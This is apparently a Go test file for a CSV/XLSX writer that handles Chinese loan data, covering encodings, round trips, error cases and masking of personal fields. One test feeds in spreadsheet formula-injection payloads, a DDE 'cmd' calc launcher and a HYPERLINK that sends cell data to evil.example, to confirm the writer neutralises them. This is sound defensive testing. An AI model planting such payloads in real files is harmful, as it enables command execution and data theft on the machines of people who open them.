package tape

import (
	"bytes"
	"strings"
	"testing"

	"unicode"

	"github.com/google/go-cmp/cmp"
	"pgregory.net/rapid"

	"reclaim/csvsafe"
)

// roundTrip writes header and rows with opts and reads them back through OpenReader.
func roundTrip(t tb, opts WriterOptions, header []string, rows [][]string) ([]string, [][]string, SourceInfo) {
	return roundTripEnc(t, opts, "", header, rows)
}

// roundTripEnc is roundTrip reading back with a declared encoding.
func roundTripEnc(t tb, opts WriterOptions, declared string, header []string, rows [][]string) ([]string, [][]string, SourceInfo) {
	t.Helper()
	var b bytes.Buffer
	w, err := NewWriter(&b, opts)
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range append([][]string{header}, rows...) {
		if err := w.Write(r); err != nil {
			t.Fatalf("Write(%q): %v", r, err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	name := "rt.csv"
	if opts.Format == "xlsx" {
		name = "rt.xlsx"
	}
	src, err := OpenReader(bytes.NewReader(b.Bytes()), name, OpenOptions{Sheet: opts.Sheet, Encoding: declared})
	if err != nil {
		t.Fatalf("OpenReader: %v", err)
	}
	defer src.Close()
	got, rerrs, fatal := readAll(t, src)
	if fatal != nil || len(rerrs) > 0 {
		t.Fatalf("reading back: %v %v", fatal, rerrs)
	}
	var cells [][]string
	for _, r := range got {
		cells = append(cells, r.Cells)
	}
	return src.Header(), cells, src.Info()
}

var writerFormats = []struct {
	opts WriterOptions
	enc  string
}{
	{WriterOptions{}, "utf-8"},
	{WriterOptions{Format: "csv", Encoding: "utf-8-bom"}, "utf-8-bom"},
	{WriterOptions{Format: "csv", Encoding: "gbk"}, "gb18030"}, // detected: GBK bytes read as GB18030
	{WriterOptions{Format: "csv", Encoding: "gb18030"}, "gb18030"},
	{WriterOptions{Format: "xlsx"}, ""},
	{WriterOptions{Format: "xlsx", Sheet: "贷款"}, ""},
}

func TestWriterRoundTrip(t *testing.T) {
	header := []string{"借据号", "本金余额(万元)", "court", "note"}
	rows := [][]string{
		{"L001", "1.5", "北京市朝阳区人民法院", "00123"},
		{"L002", "0.000001", "", `quote " and, comma`},
		{"L003", "1E+05", "multi\nline", "  padded  "},
		{"L004", "=A1+1", "\ttab", "-0"},
	}
	for _, wf := range writerFormats {
		t.Run(wf.opts.Format+"/"+wf.opts.Encoding+wf.opts.Sheet, func(t *testing.T) {
			h, got, info := roundTrip(t, wf.opts, header, rows)
			if diff := cmp.Diff(header, h); diff != "" {
				t.Errorf("header: %s", diff)
			}
			want := rows
			if wf.opts.Format != "xlsx" { // CSV neutralises formula-looking cells (csvsafe)
				want = append([][]string(nil), rows[:3]...)
				want = append(want, []string{"L004", "'=A1+1", "'\ttab", "-0"})
			}
			if diff := cmp.Diff(want, got); diff != "" {
				t.Errorf("rows: %s", diff)
			}
			if wf.enc != "" && info.Encoding != wf.enc {
				t.Errorf("encoding %s, want %s", info.Encoding, wf.enc)
			}
		})
	}
}

// TestWriterRoundTripProperty: any header and cells the writer accepts read back unchanged, but
// for the single quote CSV puts before a cell that a spreadsheet would run as a formula.
func TestWriterRoundTripProperty(t *testing.T) {
	for _, wf := range writerFormats {
		t.Run(wf.opts.Format+"/"+wf.opts.Encoding+wf.opts.Sheet, func(t *testing.T) {
			rapid.Check(t, func(rt *rapid.T) {
				cell := cellGen(wf.opts)
				width := rapid.IntRange(1, 5).Draw(rt, "width")
				header := make([]string, width)
				for i := range header {
					header[i] = strings.TrimSpace(cell.Draw(rt, "h"))
					if header[i] == "" {
						header[i] = "h"
					}
				}
				n := rapid.IntRange(0, 6).Draw(rt, "rows")
				rows := make([][]string, 0, n)
				for range n {
					r := make([]string, width)
					for i := range r {
						r[i] = cell.Draw(rt, "c")
					}
					if blankRecord(r) {
						r[0] = "x" // blank rows are skipped by design
					}
					rows = append(rows, r)
				}
				// Detection is a heuristic that a few short texts defeat (TestCSVDetectShortGBK);
				// the property is about the bytes, so declare the encoding.
				declared := ""
				switch {
				case strings.HasPrefix(wf.opts.Encoding, "gb"):
					declared = wf.opts.Encoding
				case wf.opts.Format != "xlsx":
					declared = "utf-8"
				}
				h, got, _ := roundTripEnc(rt, wf.opts, declared, header, rows)
				if len(rows) == 0 {
					rows = nil
				}
				if wf.opts.Format != "xlsx" {
					// CSV neutralises cells a spreadsheet would run as formulas (csvsafe).
					for i := range header {
						header[i] = csvsafe.Cell(header[i])
					}
					for _, r := range rows {
						for i := range r {
							r[i] = csvsafe.Cell(r[i])
						}
					}
				}
				if !cmp.Equal(header, h) || !cmp.Equal(rows, got) {
					rt.Fatalf("round trip:\nheader %q -> %q\nrows %q\n  -> %q", header, h, rows, got)
				}
			})
		})
	}
}

// cellGen draws cells from characters that matter to the formats: delimiters, quotes, line feeds,
// tabs, spaces, digits, formula-looking text and CJK (basic block for GBK, all of Han otherwise,
// plus Latin, Greek and symbols outside GBK). "\r" is left out: CSV reads "\r\n" in a cell as "\n".
func cellGen(o WriterOptions) *rapid.Generator[string] {
	specials := rapid.RuneFrom([]rune("ab 1.,;|\"'\t\n中文￥=-\u3000"))
	cjk := rapid.Map(rapid.Int32Range(0x4E00, 0x9FA5), func(r int32) rune { return rune(r) })
	gens := []*rapid.Generator[rune]{specials, cjk}
	if o.Encoding != "gbk" {
		gens = append(gens, rapid.RuneFrom(nil, unicode.Han, unicode.Latin, unicode.Greek, unicode.So))
	}
	return rapid.StringOfN(rapid.OneOf(gens...), 0, 12, -1)
}

func TestWriterErrors(t *testing.T) {
	var b bytes.Buffer
	if _, err := NewWriter(&b, WriterOptions{Format: "pdf"}); err == nil {
		t.Error("pdf accepted")
	}
	if _, err := NewWriter(&b, WriterOptions{Format: "xlsx", Encoding: "gbk"}); err == nil {
		t.Error("xlsx with an encoding accepted")
	}
	if _, err := NewWriter(&b, WriterOptions{Encoding: "latin1"}); err == nil {
		t.Error("latin1 accepted")
	}
	w, _ := NewWriter(&b, WriterOptions{Encoding: "gbk"})
	if err := w.Write([]string{"a", ""}); err == nil || !strings.Contains(err.Error(), "header cell 2") {
		t.Errorf("empty header: %v", err)
	}
	if err := w.Write([]string{"a", "b"}); err != nil {
		t.Fatal(err)
	}
	if err := w.Write([]string{"1"}); err == nil || !strings.Contains(err.Error(), "has 1 cells") {
		t.Errorf("short row: %v", err)
	}
	if err := w.Write([]string{"1", "😀"}); err == nil || !strings.Contains(err.Error(), "GBK") {
		t.Errorf("emoji in GBK: %v", err)
	}
	if err := w.Write([]string{"1", "\xff"}); err == nil || !strings.Contains(err.Error(), "UTF-8") {
		t.Errorf("invalid UTF-8: %v", err)
	}
	if err := w.Write([]string{"1", "ok"}); err != nil {
		t.Errorf("rejected rows must not poison the writer: %v", err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	if err := w.Write([]string{"1", "2"}); err == nil {
		t.Error("write after close")
	}

	x, _ := NewWriter(&b, WriterOptions{Format: "xlsx"})
	x.maxRows = 3
	x.Write([]string{"a"})
	if err := x.Write([]string{strings.Repeat("x", 32768)}); err == nil || !strings.Contains(err.Error(), "32767") {
		t.Errorf("long cell: %v", err)
	}
	if err := x.Write([]string{"a\x00b"}); err == nil || !strings.Contains(err.Error(), "control character") {
		t.Errorf("NUL: %v", err)
	}
	x.Write([]string{"1"})
	x.Write([]string{"2"})
	if err := x.Write([]string{"3"}); err == nil || !strings.Contains(err.Error(), "at most 3 rows") {
		t.Errorf("row limit: %v", err)
	}
	b.Reset()
	if err := x.Close(); err != nil || b.Len() == 0 {
		t.Fatal(err)
	}
	if _, got, _ := roundTripBytes(t, b.Bytes()); len(got) != 2 {
		t.Errorf("rows written before the limit: %v", got)
	}
	if _, err := NewWriter(&b, WriterOptions{Format: "xlsx", Sheet: "bad[name]"}); err == nil {
		t.Error("bad sheet name accepted")
	}
}

func roundTripBytes(t *testing.T, data []byte) ([]string, [][]string, error) {
	src, err := OpenReader(bytes.NewReader(data), "x.xlsx", OpenOptions{})
	if err != nil {
		return nil, nil, err
	}
	defer src.Close()
	rows, _, fatal := readAll(t, src)
	var cells [][]string
	for _, r := range rows {
		cells = append(cells, r.Cells)
	}
	return src.Header(), cells, fatal
}

// TestWriterNeutralisesFormulas: a CSV tape never carries a cell a spreadsheet would run; plain
// negative numbers stay numbers; XLSX cells are typed text already and stay as they are.
func TestWriterNeutralisesFormulas(t *testing.T) {
	header := []string{"=cmd|' /C calc'!A0", "amount"}
	rows := [][]string{{`=HYPERLINK("http://evil.example/?"&A1)`, "-1234.56"}, {"@SUM(A1)", "-1+1"}, {"\t=1", "+86"}}
	h, got, _ := roundTrip(t, WriterOptions{}, header, rows)
	want := [][]string{{`'=HYPERLINK("http://evil.example/?"&A1)`, "-1234.56"}, {"'@SUM(A1)", "'-1+1"}, {"'\t=1", "+86"}}
	if h[0] != "'=cmd|' /C calc'!A0" || !cmp.Equal(got, want) {
		t.Fatalf("csv: header %q rows %q", h, got)
	}
	h, got, _ = roundTrip(t, WriterOptions{Format: "xlsx"}, header, rows)
	if h[0] != header[0] || !cmp.Equal(got, rows) {
		t.Fatalf("xlsx: header %q rows %q", h, got)
	}
}

func TestMaskCell(t *testing.T) {
	for _, c := range []struct {
		f      Field
		in     string
		hidden string // must not appear in the output
		want   string
	}{
		{FName, "张三丰", "三丰", "张**"},
		{FName, "王", "王", "*"},
		{FNationalID, "110101199003077777", "19900307", ""},
		{FPhone, "13800138000", "0013", ""},
		{FBankCard, "6222021234567890123", "12345678", "***************0123"},
		{FAddress, "广东省深圳市南山区科技园路1号", "南山区科技园", "广东省深圳市***"},
		{FEmployer, "深圳市某某科技有限公司", "某某", "***"},
		{FContacts, "李四 13900139000", "13900139000", "***"},
		{FName, "  ", "", ""},
		{FLoanID, "L001", "", "L001"},
	} {
		got := MaskCell(c.f, c.in)
		if (c.want != "" && got != c.want) || (c.hidden != "" && strings.Contains(got, c.hidden)) {
			t.Errorf("MaskCell(%v, %q) = %q", c.f, c.in, got)
		}
	}
}
